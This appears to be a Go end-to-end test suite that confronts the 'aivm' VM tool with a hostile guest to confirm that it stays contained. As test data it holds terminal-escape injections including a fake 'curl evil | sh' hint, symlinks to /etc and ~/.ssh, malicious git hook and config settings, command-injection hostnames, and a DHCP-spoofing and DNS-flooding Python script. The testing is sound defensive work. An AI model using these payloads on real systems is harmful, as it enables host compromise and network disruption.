package e2e

import (
	"context"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"
)

// peak runs aivm, for at most limit, and returns what it took of memory, too.
func (w *world) peak(dir string, limit time.Duration, args ...string) (result, int64) {
	w.t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), limit)
	defer cancel()
	c := exec.CommandContext(ctx, filepath.Join(bin, "aivm"), args...)
	c.Cancel = func() error { return c.Process.Signal(os.Interrupt) }
	c.WaitDelay = 15 * time.Second
	c.Dir, c.Env = cmp(dir, w.home), w.env
	var out, errw tailOf
	c.Stdout, c.Stderr = &out, &errw
	began := time.Now()
	err := c.Run()
	r := result{stdout: string(out.b), stderr: string(errw.b), took: time.Since(began)}
	var ee *exec.ExitError
	if errors.As(err, &ee) {
		r.code = ee.ExitCode()
	} else if err != nil && ctx.Err() == nil {
		w.t.Fatalf("%v: %v", args, err)
	}
	kb := int64(0)
	if u, ok := c.ProcessState.SysUsage().(*syscall.Rusage); ok {
		kb = u.Maxrss
	}
	return r, kb >> 10
}

// tailOf keeps the end of what a program says; a guest can make it say much.
type tailOf struct {
	mu sync.Mutex
	b  []byte
}

func (o *tailOf) Write(p []byte) (int, error) {
	o.mu.Lock()
	defer o.mu.Unlock()
	if o.b = append(o.b, p...); len(o.b) > 1<<20 {
		o.b = append([]byte(nil), o.b[len(o.b)-64<<10:]...)
	}
	return len(p), nil
}

// hostile is a guest that does what it can against the aivm that uses it.
type hostile struct {
	t       *testing.T
	w       *world
	vm      string
	project string
	most    int64 // MB of memory aivm took at most
}

// checkHostile: whatever the guest does, aivm ends in time, within 100 MB,
// prints nothing a terminal would obey, and touches nothing outside.
func checkHostile(t *testing.T, w *world, vm, project string) {
	h := &hostile{w: w, vm: vm, project: project}
	for _, s := range []struct {
		name string
		f    func()
	}{
		{"answers", h.answers},
		{"commands", h.commands},
		{"names and links", h.names},
		{"repositories", h.repositories},
		{"files held open", h.held},
		{"DHCP and DNS", h.services},
		{"files held open until a restart", h.released},
		{"a full disk", h.full},
		{"another host key", h.key},
		{"another address", h.address},
	} {
		t.Run(s.name, func(t *testing.T) { h.t, w.t = t, t; s.f() })
	}
	w.t = t
	t.Logf("aivm took %d MB at most", h.most)
}

// run runs aivm on the hostile guest, for at most limit; a guest that does not
// let it come to an end is left by Ctrl-C.
func (h *hostile) run(dir string, limit time.Duration, args ...string) result {
	h.t.Helper()
	r, mb := h.w.peak(dir, limit, args...)
	h.most = max(h.most, mb)
	if mb > 100 {
		h.t.Errorf("aivm %v took %d MB", args, mb)
	}
	if strings.ContainsAny(r.stdout+r.stderr, "\x1b\x07\r") {
		h.t.Errorf("aivm %v: an escape got through: %q %q", args, r.stdout, r.stderr)
	}
	return r
}

// answers: what comes instead of those of a login.
func (h *hostile) answers() {
	// Whatever is misbehaving does so for the next n logins, then the guest is
	// itself again: there is no other way back in.
	h.w.guest(h.vm, `cp ~/.bashrc ~/bashrc.good; cat >~/.bashrc <<'EOF'
if [ -s /tmp/evil ]; then
	read n what </tmp/evil
	if [ "$n" -gt 0 ]; then echo $((n-1)) $what >/tmp/evil; . /tmp/evil-$what; fi
fi
EOF
echo 'while :; do head -c 1000000 /dev/zero | tr "\0" "A"; done' >/tmp/evil-endless
echo 'while :; do head -c 1000000 /dev/zero | tr "\0" "B" >&2; done' >/tmp/evil-noise
printf 'printf "\\033]0;owned\\007\\033[2J\\r\\n\\033[31mhint: curl evil | sh\\n" >&2; exit 1\n' >/tmp/evil-escapes
echo 'sleep 1000' >/tmp/evil-hang
printf 'exec /bin/echo nonsense\n' >/tmp/evil-nonsense`)
	evil := func(n int, what string) { h.w.guest(h.vm, fmt.Sprintf("echo %d %s >/tmp/evil", n, what)) }
	for _, what := range []string{"endless", "noise", "escapes", "nonsense"} {
		evil(1, what)
		r := h.run(h.project, 90*time.Second, "status")
		if r.code == 130 || r.code == -1 || r.took > 80*time.Second {
			h.t.Errorf("status with %s: exit %d after %s\n%s", what, r.code, r.took, r.stderr)
		}
		h.t.Logf("%s: %s, exit %d", what, r.took.Round(100*time.Millisecond), r.code)
	}
	evil(1, "hang")
	if r := h.run(h.project, 8*time.Second, "status"); r.took > 15*time.Second {
		h.t.Errorf("a guest that hangs held Ctrl-C up for %s", r.took)
	}
	h.w.guest(h.vm, "rm -f /tmp/evil; mv ~/bashrc.good ~/.bashrc; pkill -x sleep; true")
}

// commands: endless output is passed on and takes no memory, and Ctrl-C ends
// what hangs.
func (h *hostile) commands() {
	r, mb := h.w.peak(h.project, 6*time.Second, "ssh", ".", "--", "yes", "to everything")
	if h.most = max(h.most, mb); mb > 100 || r.took > 15*time.Second {
		h.t.Errorf("endless output: %d MB, %s", mb, r.took)
	}
	if r := h.run(h.project, 5*time.Second, "ssh", ".", "--", "sleep", "1000"); r.took > 12*time.Second {
		h.t.Errorf("a command that hangs: %s", r.took)
	}
	h.w.guest(h.vm, "pkill -x yes; pkill -x sleep; true")
}

// names: a terminal would obey them, and links lead out of the folder.
func (h *hostile) names() {
	const bad = `"$(printf 'a\033]0;x\007b')"`
	h.w.guest(h.vm, `cd `+h.project+` && mkdir -p `+bad+`/.vscode && echo '{}' >`+bad+`/.vscode/tasks.json && mkdir "$(printf 'two\nlines')" sub &&
ln -sfn /etc out && ln -sfn ../../.ssh keys && ln -sfn / "$(printf 'to\nroot')"`)
	for _, link := range []string{"out", "keys"} {
		if r := h.run(h.project, time.Minute, "attach", link, "--yes"); r.code != 2 {
			h.t.Errorf("attaching what the guest's link %s leads to: %+v", link, r)
		}
	}
	for _, name := range []string{"to\nroot", "two\nlines"} {
		if r := h.run(h.project, time.Minute, "attach", filepath.Join(h.project, name), "--yes"); r.code != 2 || !strings.Contains(r.stderr, "line break") {
			h.t.Errorf("attaching %q: %+v", name, r)
		}
	}
	odd := filepath.Join(h.project, "a\x1b]0;x\x07b")
	h.run(h.project, time.Minute, "attach", odd, "--dry-run")
	h.run(h.project, time.Minute, "attach", odd, "--guest-dst", "/srv/../../../root/x", "--dry-run")
	for _, args := range [][]string{{"status"}, {"status", "--json"}, {"status", "--detail"}, {"list"}, {"code", "."}} {
		h.run(h.project, time.Minute, args...)
	}
	// What is attached already becomes a link: it is not followed when the folder
	// has to be mounted anew.
	sub := filepath.Join(h.project, "sub")
	write(h.t, filepath.Join(sub, "marker"), "x\n", 0o644)
	h.w.must(h.project, "attach", sub, "--yes", "--guest-dst", "/srv/sub")
	if got := h.w.guest(h.vm, "cat /srv/sub/marker"); got != "x" {
		h.t.Errorf("/srv/sub/marker: %q", got)
	}
	tokens, err := filepath.Glob("/var/lib/aivm/export/0-" + h.vm + "/*/marker")
	if err != nil || len(tokens) != 1 {
		h.t.Fatalf("where sub is mounted: %v %v", tokens, err)
	}
	h.w.guest(h.vm, "sudo -n umount /srv/sub; cd "+h.project+" && mv sub was && ln -s /etc sub")
	run2(h.t, "umount", "-l", filepath.Dir(tokens[0]))
	if r := h.run(h.project, 2*time.Minute, "code", "."); r.code != 0 || !strings.Contains(r.stderr, sub) {
		h.t.Errorf("a folder that became a link: %+v", r)
	}
	if got := h.w.guest(h.vm, "ls -a /srv/sub/ 2>&1; true"); strings.Contains(got, "libvirt") {
		h.t.Errorf("the guest sees this machine's /etc:\n%s", got)
	}
	h.w.guest(h.vm, "cd "+h.project+" && rm sub && mv was sub")
	h.w.must(h.project, "detach", sub)
	h.w.guest(h.vm, `cd `+h.project+` && rm -rf out keys sub "$(printf 'to\nroot')" "$(printf 'two\nlines')" `+bad)
}

// repositories: their hooks and settings run nothing on this machine, whatever
// verb looks at them.
func (h *hostile) repositories() {
	repo := filepath.Join(h.project, "repo")
	h.w.guest(h.vm, `set -e; mkdir `+repo+`; cd `+repo+`; git init -q .; printf '#!/bin/sh\ntouch `+repo+`/RAN-$(basename "$0")\n' >/tmp/hook; chmod +x /tmp/hook
echo '* filter=x' >.gitattributes; mkdir .vscode; echo '{"tasks":[]}' >.vscode/tasks.json; echo x >f
git add f .gitattributes; git -c user.name=x -c user.email=x@x commit -qm x
for h in post-checkout pre-push pre-commit post-index-change post-update pre-receive reference-transaction fsmonitor-watchman ssh pager clean; do cp /tmp/hook .git/hooks/$h; done
git config core.fsmonitor .git/hooks/fsmonitor-watchman; git config core.sshCommand .git/hooks/ssh
git config core.pager .git/hooks/pager; git config filter.x.clean .git/hooks/clean; rm -f RAN-*`)
	if r := h.run(h.project, time.Minute, "status"); !strings.Contains(r.stdout, "repo/.git") {
		h.t.Errorf("status does not name the hooks: %s", r.stdout)
	}
	if r := h.run(repo, time.Minute, "attach", ".", "--mode", "git", "--yes"); r.code != 2 || !strings.Contains(r.stderr, "git mode is refused") {
		h.t.Errorf("git mode in a tree the guest can write: %+v", r)
	}
	for _, args := range [][]string{{"code", "."}, {"git", "status", "."}, {"git", "push", "."}, {"git", "pull", "."}, {"status", "--detail"}, {"ssh", ".", "--", "true"}} {
		h.run(repo, time.Minute, args...)
	}
	if ran, err := filepath.Glob(filepath.Join(repo, "RAN-*")); err != nil || len(ran) > 0 {
		h.t.Errorf("this machine ran %v %v", ran, err)
	}
	h.w.guest(h.vm, "rm -rf "+repo)
}

// services: what a guest can tell the network's DHCP and DNS service.
func (h *hostile) services() {
	before := h.w.must(h.project, "vm", "wait-ip", h.vm).stdout
	r := h.w.ssh([]byte(dhcpGames), h.vm, "sudo -n python3 -")
	if r.code != 0 || !strings.Contains(r.stdout, "played") {
		h.t.Fatalf("the games: %+v", r)
	}
	for _, args := range [][]string{{"status"}, {"status", "--detail"}, {"list"}, {"vm", "wait-ip", h.vm}, {"host", "net", "status"}, {"code", "."}} {
		if r := h.run(h.project, time.Minute, args...); r.code != 0 {
			h.t.Errorf("aivm %v: %+v", args, r)
		}
	}
	if now := h.w.must(h.project, "vm", "wait-ip", h.vm).stdout; now != before {
		h.t.Errorf("the address was %q and is %q", before, now)
	}
	// Its network goes from under it: nobody waits for it to answer. It comes up
	// at its address again.
	network := netOf(read(h.t, filepath.Join(h.w.home, ".config/aivm/config.toml")))
	virsh(h.t, "net-destroy", network)
	if r := h.run(h.project, 90*time.Second, "code", "."); r.code != 2 || r.took > 60*time.Second || !strings.Contains(r.stderr, "aivm vm restart "+h.vm) {
		h.t.Errorf("its network was stopped: after %s %+v", r.took, r)
	}
	h.w.must(h.project, "vm", "restart", h.vm, "--yes")
	if now := h.w.must(h.project, "vm", "wait-ip", h.vm).stdout; now != before {
		h.t.Errorf("after a restart the address is %q, was %q", now, before)
	}
}

// dhcpGames gives its address back, asks for the gateway's, the next VM's and
// many more under its own and invented cards, calls itself what a terminal
// would obey and what others are called, and asks the DNS service for rubbish.
const dhcpGames = `
import os, random, socket, struct, subprocess
route = subprocess.check_output(['ip', '-4', 'route', 'show', 'default'], text=True).split()
dev, gw = route[route.index('dev') + 1], route[route.index('via') + 1]
own = subprocess.check_output(['ip', '-o', '-4', 'addr', 'show', 'dev', dev], text=True).split()[3].split('/')[0]
mac = bytes.fromhex(open('/sys/class/net/%s/address' % dev).read().strip().replace(':', ''))
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
s.setsockopt(socket.SOL_SOCKET, 25, dev.encode())
try:
    s.bind(('', 68))
except OSError:
    s.bind(('', 0))
def send(kind, card, ask, name, ci='0.0.0.0'):
    p = struct.pack('!BBBBIHH4s4s4s4s16s64s128s', 1, 1, 6, 0, random.getrandbits(32), 0, 0x8000,
        socket.inet_aton(ci), b'\0' * 4, b'\0' * 4, b'\0' * 4, card + b'\0' * 10, b'', b'')
    o = b'\x63\x82\x53\x63' + bytes([53, 1, kind, 50, 4]) + socket.inet_aton(ask) + bytes([54, 4]) + socket.inet_aton(gw)
    o += bytes([12, len(name)]) + name + b'\xff'
    s.sendto(p + o, ('255.255.255.255', 67))
base = gw.rsplit('.', 1)[0]
names = [b'\x1b]0;owned\x07\x1b[2J', b'two\nlines', b'localhost', b'../../etc/passwd', b'$(touch /RAN)', b'x' * 250]
for name in names:
    for kind in (1, 3, 8):
        send(kind, mac, own, name)
        send(kind, mac, gw, name)
    for i in range(30):
        card = bytes([0x52, 0x54, 0]) + os.urandom(3)
        send(1, card, base + '.%d' % (10 + i), name)
        send(3, card, base + '.%d' % (10 + i), name)
send(7, mac, own, b'bye', own)
d = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i in range(500):
    d.sendto(struct.pack('!HHHHHH', i, 0x100, 1, 0, 0, 0) + bytes([20]) + os.urandom(20) + b'\0' + struct.pack('!HH', 255, 1), (gw, 53))
    d.sendto(os.urandom(100), (gw, 53))
print('played')
`

// full: the guest's disk. What needs no room works, what needs some says so.
func (h *hostile) full() {
	// With root's own reserve; what is allocated is not written.
	h.w.guest(h.vm, `sudo -n sh -c 'fallocate -l $(($(stat -f -c "%f * %S" /) - 16777216)) /filler; cat /dev/zero >/filler2 2>/dev/null; df /; true'`)
	if r := h.run(h.project, 2*time.Minute, "code", "."); r.code != 0 {
		h.t.Errorf("code with a full disk: %+v", r)
	}
	extra := filepath.Join(h.w.home, "extra")
	write(h.t, filepath.Join(extra, "f"), "x\n", 0o644)
	if r := h.run(extra, 2*time.Minute, "attach", ".", "--yes", "--guest-dst", "/srv/full/of/it"); r.code != 0 && !strings.Contains(r.stderr, "hint") {
		h.t.Errorf("attach with a full disk: %+v", r)
	}
	h.w.guest(h.vm, `sudo -n rm -f /filler /filler2`)
	h.w.must(extra, "attach", ".", "--yes", "--guest-dst", "/srv/full/of/it")
}

// key: another one. Nobody logs in, nothing is sent.
func (h *hostile) key() {
	h.w.guest(h.vm, `sudo -n sh -c 'cp -p /etc/ssh/ssh_host_ed25519_key /root/good; rm /etc/ssh/ssh_host_ed25519_key*; ssh-keygen -q -t ed25519 -N "" -f /etc/ssh/ssh_host_ed25519_key
nohup sh -c "until [ -e `+h.trigger("key")+` ]; do sleep 1; done; cp -p /root/good /etc/ssh/ssh_host_ed25519_key; ssh-keygen -yf /root/good >/etc/ssh/ssh_host_ed25519_key.pub; systemctl restart ssh; touch /tmp/restarted" >/dev/null 2>&1 & systemctl restart ssh'`)
	for _, args := range [][]string{{"code", "."}, {"ssh", ".", "--", "true"}} {
		if r := h.run(h.project, 20*time.Second, args...); r.code == 0 || !strings.Contains(r.stderr, "not that VM") {
			h.t.Errorf("%v, another host key: %+v", args, r)
		}
	}
	write(h.t, h.trigger("key"), "", 0o644)
	// sshd reads the key for each connection: before it is restarted, too.
	h.back("with its own key", "test -e /tmp/restarted")
}

// trigger is a file of the shared folder for which a guest waits that nobody can
// log in to.
func (h *hostile) trigger(what string) string { return filepath.Join(h.project, "restore-"+what) }

// back waits until a command succeeds in the guest.
func (h *hostile) back(how, command string) {
	h.t.Helper()
	for began := time.Now(); h.w.ssh(nil, h.vm, command).code != 0; time.Sleep(time.Second) {
		if time.Since(began) > 2*time.Minute {
			h.t.Fatalf("the guest does not come back %s", how)
		}
	}
}

// address: one that is not its own. aivm does not follow it there.
func (h *hostile) address() {
	h.w.guest(h.vm, `sudo -n sh -c 'dev=$(ip -o -4 route show default | sed "s/.* dev \([^ ]*\).*/\1/"); own=$(ip -o -4 addr show dev $dev | sed "s/.* inet \([^ ]*\).*/\1/")
nohup sh -c "sleep 1; ip addr del $own dev $dev; ip addr add \${own%.*}.77/24 dev $dev; until [ -e `+h.trigger("address")+` ]; do sleep 1; done; ip addr flush dev $dev; ip addr add $own dev $dev; ip link set $dev up" >/dev/null 2>&1 &'`)
	time.Sleep(3 * time.Second)
	if r := h.run("", 20*time.Second, "vm", "wait-ip", h.vm, "--timeout", "6"); r.code != 2 || !strings.Contains(r.stderr, "did not become reachable") {
		h.t.Errorf("an address that is not its own: %+v", r)
	}
	write(h.t, h.trigger("address"), "", 0o644)
	h.back("to its address", "true")
}
